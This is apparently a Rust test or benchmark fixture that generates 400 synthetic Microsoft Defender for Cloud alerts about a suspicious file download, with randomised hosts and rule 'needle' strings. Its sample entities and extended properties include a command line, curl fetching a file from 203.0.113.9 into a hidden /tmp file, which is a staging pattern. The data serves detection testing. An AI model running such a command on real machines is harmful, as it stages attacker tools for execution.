//! Events that differ as those of one tenant do.

use serde_json::{Value, json};

use crate::rules;

/// How many different events are matched.
pub(crate) const EVENTS: usize = 400;

/// What tells one alert from another.
struct Own {
    machine: String,
    host: String,
    ty: String,
    severity: &'static str,
    needle: String,
    other_needle: String,
    confidence: f64,
}

/// Alerts in the form that Event Hubs carries, of about 3.6 KB each.
pub(crate) fn alerts() -> Vec<Vec<u8>> {
    let mut rng = fastrand::Rng::with_seed(1);
    let one = |_| alert(&own(&mut rng)).to_string().into_bytes();
    (0..EVENTS).map(one).collect()
}

fn own(rng: &mut fastrand::Rng) -> Own {
    let host = format!("pay-worker-{:03}", rng.u32(..400));
    let group = rules::resource_group(rng.usize(..rules::GROUPS));
    Own {
        machine: format!("{group}/providers/Microsoft.Compute/virtualMachines/{host}"),
        ty: rules::alert_type(rng.usize(..rules::TYPES)),
        severity: rules::SEVERITIES[rng.usize(..4)],
        needle: rules::needle(rng.usize(..rules::NEEDLES)),
        other_needle: rules::needle(rng.usize(..rules::NEEDLES)),
        confidence: f64::from(rng.u32(..100)) / 100.0,
        host,
    }
}

/// An alert in the form that Event Hubs carries, with what tells it from others.
fn alert(own: &Own) -> Value {
    let Own { machine, host, .. } = own;
    let mut alert = json!({
        "VendorName": "Microsoft",
        "AlertType": own.ty,
        "ProductName": "Microsoft Defender for Cloud",
        "StartTimeUtc": "2026-02-03T04:05:06.789Z",
        "EndTimeUtc": "2026-02-03T04:05:06.789Z",
        "TimeGenerated": "2026-02-03T04:09:10.111Z",
        "ProcessingEndTime": "2026-02-03T04:09:11.222Z",
        "Severity": own.severity,
        "Status": "New",
        "ProviderAlertStatus": null,
        "ConfidenceLevel": null,
        "ConfidenceScore": own.confidence,
        "ConfidenceReasons": null,
        "IsIncident": false,
        "SystemAlertId": "2517000000000000000_7d0c1c52-6a0f-4e3f-9f07-0a6c2a51a001",
        "CorrelationKey": null,
        "Intent": "Execution, CommandAndControl",
        "AzureResourceId": machine,
        "WorkspaceId": null,
        "WorkspaceSubscriptionId": null,
        "WorkspaceResourceGroup": "",
        "AgentId": "",
        "CompromisedEntity": host,
        "AlertDisplayName": format!("Suspicious file download: {}", own.needle),
        "Description": format!("Analysis of host data on {host} has detected {} and that a file was \
            fetched from a source that is rarely seen in this subscription, written to a \
            directory that every user can write to, and marked as executable. Attackers often \
            stage their tools in this way. It may also be an administrator's script: compare \
            the command line and the account below with what is expected on this machine.", own.other_needle),
        "AlertUri": "https://portal.azure.com/#blade/Microsoft_Azure_Security/AlertBlade/alertId/7d0c",
    });
    if let Value::Object(fields) = &mut alert {
        fields.extend(details(machine, host));
    }
    alert
}

fn details(machine: &str, host: &str) -> [(String, Value); 5] {
    let entities = json!([
        {"$id": "4", "HostName": host, "AzureID": machine, "OSFamily": "Linux",
         "Asset": true, "Type": "host"},
        {"$id": "5", "ProcessId": "0x5b1", "CommandLine": "curl -s -o /tmp/.x \"http://203.0.113.9/x\"",
         "Host": {"$ref": "4"}, "Asset": false, "Type": "process"},
        {"$id": "6", "Address": "203.0.113.9", "Location": {"CountryCode": "ZZ", "Asn": 64496},
         "Asset": false, "Type": "ip"},
        {"$ref": "5"},
    ]);
    let steps = json!([
        "Check with the owner of the account whether the download was intended.\nIf it was not, \
         isolate the machine, keep its disk for the investigation and rotate its credentials.",
        "Look for the same address and file name on other machines of the subscription, and for \
         other alerts on this one in the hours before. Then close what made the download \
         possible: an exposed port, a weak password, or an application that is not up to date.",
    ]);
    let extended = json!({
        "Client IP address": "203.0.113.9",
        "Command line": "curl -s -o /tmp/.x \"http://203.0.113.9/x\"",
        "Account": "svc-deploy",
        "Parent process": "/usr/sbin/cron -f -P",
        "User SID": "S-1-5-21-1004336348-1177238915-682003330-1013",
        "Destinations": "[{\"address\":\"203.0.113.9\",\"port\":80},{\"address\":\"203.0.113.77\",\
            \"port\":8443}]",
        "Number of attempts": "3",
        "Effect": "The file was run once and opened a connection to the address it came from, \
            which was closed after two seconds without an answer.",
        "resourceType": "Virtual Machine",
        "EffectiveAzureResourceId": machine,
        "EffectiveSubscriptionId": "5f1c7a3e-90d2-4b8e-a6f4-2c0d9b7e1a55",
        "ProductComponentName": "Servers",
    });
    let identifiers = json!([
        {"$id": "2", "AzureResourceId": machine, "Type": "AzureResource"},
        {"$id": "3", "AadTenantId": "0d2f6c1b-77aa-4f0e-8a39-5b1f3f1d9c10", "Type": "AAD"},
    ]);
    [
        ("Entities", entities),
        ("ExtendedLinks", Value::Null),
        ("RemediationSteps", steps),
        ("ExtendedProperties", extended),
        ("ResourceIdentifiers", identifiers),
    ]
    .map(|(key, value)| (key.to_owned(), value))
}
